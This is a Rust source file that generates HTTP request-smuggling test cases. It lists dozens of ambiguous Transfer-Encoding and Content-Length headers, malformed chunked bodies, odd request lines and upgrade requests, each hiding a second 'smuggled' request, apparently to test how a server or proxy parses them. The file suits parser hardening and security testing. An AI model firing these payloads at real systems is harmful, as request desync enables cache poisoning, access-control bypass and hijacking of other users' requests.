//! The known tricks of request smuggling. In each, `@` stands for a path of its own, and whatever asks for
//! `@/smuggled` is hidden where one reading of the bytes takes it for a body and another for a request.

/// What follows a body that ends early by one reading.
const HIDDEN: &str = "GET @/smuggled HTTP/1.1\r\nHost: x\r\n\r\n";

/// Values of `Transfer-Encoding`, with what stands before and behind them, that some take for `chunked`.
const CHUNKED_OR_NOT: &[&str] = &[
    "Transfer-Encoding: chunked",
    "Transfer-Encoding : chunked",
    "Transfer-Encoding: xchunked",
    "Transfer-Encoding: chunkedx",
    "Transfer-Encoding:chunked",
    "Transfer-Encoding:\tchunked",
    "Transfer-Encoding: \x0bchunked",
    "Transfer-Encoding: \x0cchunked",
    "Transfer-Encoding: chunked\x0b",
    "Transfer-Encoding: chunked\0",
    "Transfer-Encoding: CHUNKED",
    "Transfer-Encoding: identity",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked, gzip",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: chunked, identity",
    "Transfer-Encoding: chunked,",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: \"chunked\"",
    "Transfer-Encoding: 'chunked'",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: chunk ed",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nTransfer-encoding: chunked",
    "Transfer-Encoding:\r\n chunked",
    "Transfer-Encoding\r\n : chunked",
    " Transfer-Encoding: chunked",
    "\tTransfer-Encoding: chunked",
    "X: y\r\n Transfer-Encoding: chunked",
    "X: y\nTransfer-Encoding: chunked",
    "X: y\rTransfer-Encoding: chunked",
    "X: y\0\r\nTransfer-Encoding: chunked",
    "Transfer_Encoding: chunked",
    "Transfer-Encoding;: chunked",
    "X-Transfer-Encoding: chunked",
    "\"Transfer-Encoding\": chunked",
    "Transfer-Encoding: \u{ff}chunked",
    "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "Content-Encoding: chunked",
];

/// Lines that say how long a body of 5 bytes is, or do not.
const FIVE_OR_NOT: &[&str] = &[
    "Content-Length: 5",
    "Content-Length:5",
    "Content-Length: 5 ",
    "Content-Length:\t5",
    "Content-Length: +5",
    "Content-Length: -5",
    "Content-Length: 05",
    "Content-Length: 0x5",
    "Content-Length: 5e0",
    "Content-Length: 5.0",
    "Content-Length: 5 5",
    "Content-Length: 5, 5",
    "Content-Length: 5, 6",
    "Content-Length: 5,",
    "Content-Length: ,5",
    "Content-Length: ",
    "Content-Length: five",
    "Content-Length: 5\x0b",
    "Content-Length: \x0c5",
    "Content-Length: 5\0",
    "Content-Length : 5",
    " Content-Length: 5",
    "Content-Length:\r\n 5",
    "Content-Length: 5\r\n 0",
    "Content-Length: 5\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: 5",
    "Content-Length: 5\nContent-Length: 0",
    "Content-Length: 5\rContent-Length: 0",
    "Content_Length: 5",
    "Content-Length: 18446744073709551621",
    "Content-Length: 4294967301",
    "Content-Length: 99999999999999999999999",
    "Connection: Content-Length\r\nContent-Length: 5",
    "X: y\r\n Content-Length: 5",
];

/// Chunked bodies with something wrong, or only unusual.
const CHUNKS: &[&str] = &[
    "5\r\nhello\r\n0\r\n\r\n",
    "5;name=value\r\nhello\r\n0\r\n\r\n",
    "5;name=\"va\r\nlue\"\r\nhello\r\n0\r\n\r\n",
    "5;\nxx\r\nhello\r\n0\r\n\r\n",
    "5;\rxx\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5\nhello\n0\n\n",
    "5\rhello\r0\r\r",
    "05\r\nhello\r\n0\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    "-5\r\nhello\r\n0\r\n\r\n",
    "5g\r\nhello\r\n0\r\n\r\n",
    "\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "5\r\nhello\n0\r\n\r\n",
    "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "100000005\r\nhello\r\n0\r\n\r\n",
    "5\r\nhello\r\n00\r\n\r\n",
    "5\r\nhello\r\n0;ext\r\n\r\n",
    "5\r\nhello\r\n0\n\r\n",
    "5\r\nhello\r\n0\r\nX-Trailer: y\r\n\r\n",
    "5\r\nhello\r\n0\r\nContent-Length: 40\r\n\r\n",
    "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "5\r\nhello\r\n0\r\nX-Forwarded-For: 6.6.6.6\r\nHost: evil\r\n\r\n",
    "5\r\nhello\r\n0\r\nX: y\r\n z\r\n\r\n",
    "5\r\nhello\r\n0\r\nX: y\n\r\n\r\n",
    "5\r\nhel",
    "5\r\nhello\r\n",
    "0\r\n\r\n",
    "0\r\n",
];

/// First lines and headers that are read in more than one way.
const HEADS: &[&str] = &[
    "GET @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET  @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a  HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET\t@/a\tHTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a b HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/1.1 x\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/1.2\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/2.0\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/1.0\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/0.9\r\n\r\n",
    "GET @/a\r\n\r\n",
    "GET @/a HTTP/1.1\nHost: x\n\n",
    "GET @/a HTTP/1.1\rHost: x\r\r",
    "GET @/a HTTP/1.1\r\nHost: x\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nX: a\rb\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nX: a\0b\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nX: a\r\n b\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nX a: b\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\n: b\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nX\r\n\r\n",
    "GET @/a HTTP/1.1\r\n Host: x\r\n\r\n",
    "\r\nGET @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "\nGET @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    " GET @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a HTTP/1.1\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x, y\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: a@x\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x/y\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nConnection: Host\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nConnection: X-Forwarded-For\r\n\r\n",
    "GET @/a HTTP/1.1\r\nHost: x\r\nConnection: close, X-Real-IP, Cookie\r\nCookie: a=b\r\n\r\n",
    "GET http://y@/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET http://x@/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a\u{80}b HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a\x7fb HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a\0b HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a\x0bHTTP/1.1 HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a#b HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/a\\b HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/%2e%2e/%2F%00 HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET @/../a/./b//c HTTP/1.1\r\nHost: x\r\n\r\n",
    "get @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "GET@/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "G\0T @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "CONNECT x:80 HTTP/1.1\r\nHost: x:80\r\n\r\nGET @/smuggled HTTP/1.1\r\nHost: x\r\n\r\n",
    "TRACE @/a HTTP/1.1\r\nHost: x\r\n\r\n",
    "OPTIONS * HTTP/1.1\r\nHost: x\r\n\r\n",
    "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
];

/// Requests to change the protocol, which the shop does not follow, with another request behind them.
const UPGRADES: &[&str] = &[
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777",
    "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "Connection: HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
    "Connection: Upgrade\r\nUpgrade: TLS/1.0",
    "Upgrade: websocket",
    "Connection: Upgrade",
    "Connection: Upgrade\r\nUpgrade: websocket, h2c",
    "Connection: keep-alive, Upgrade\r\nUpgrade: WebSocket",
    "Expect: 100-continue",
    "Expect: 100-continue, x",
];

/// Every trick as the bytes that are sent. `@` is not yet replaced.
pub fn requests() -> Vec<Vec<u8>> {
    let mut requests = Vec::new();
    for line in CHUNKED_OR_NOT {
        // By its length the body is one thing, by its chunks another (CL.TE and TE.CL), and without a length.
        let body = format!("0\r\n\r\n{HIDDEN}");
        for length in [format!("Content-Length: {}\r\n", body.len()), "Content-Length: 5\r\n".into(), String::new()] {
            requests.push(format!("POST @/a HTTP/1.1\r\nHost: x\r\n{length}{line}\r\n\r\n{body}"));
            requests.push(format!("POST @/a HTTP/1.1\r\nHost: x\r\n{line}\r\n{length}\r\n{body}"));
        }
        requests.push(format!("POST @/a HTTP/1.0\r\nHost: x\r\nConnection: keep-alive\r\n{line}\r\n\r\n{body}"));
        requests.push(format!("GET @/a HTTP/1.1\r\nHost: x\r\n{line}\r\n\r\n{body}"));
    }
    for line in FIVE_OR_NOT {
        for method in ["POST", "GET", "HEAD", "DELETE"] {
            requests.push(format!("{method} @/a HTTP/1.1\r\nHost: x\r\n{line}\r\n\r\nhello{HIDDEN}"));
        }
    }
    for chunks in CHUNKS {
        requests.push(format!("POST @/a HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n{chunks}{HIDDEN}"));
    }
    for upgrade in UPGRADES {
        requests.push(format!("GET @/a HTTP/1.1\r\nHost: x\r\n{upgrade}\r\n\r\n{HIDDEN}"));
        requests.push(format!("POST @/a HTTP/1.1\r\nHost: x\r\n{upgrade}\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"));
    }
    requests.extend(HEADS.iter().map(|head| (*head).to_owned()));
    // A character up to 255 stands for the byte of that value.
    requests.iter().map(|request| request.chars().map(|c| c as u8).collect()).collect()
}
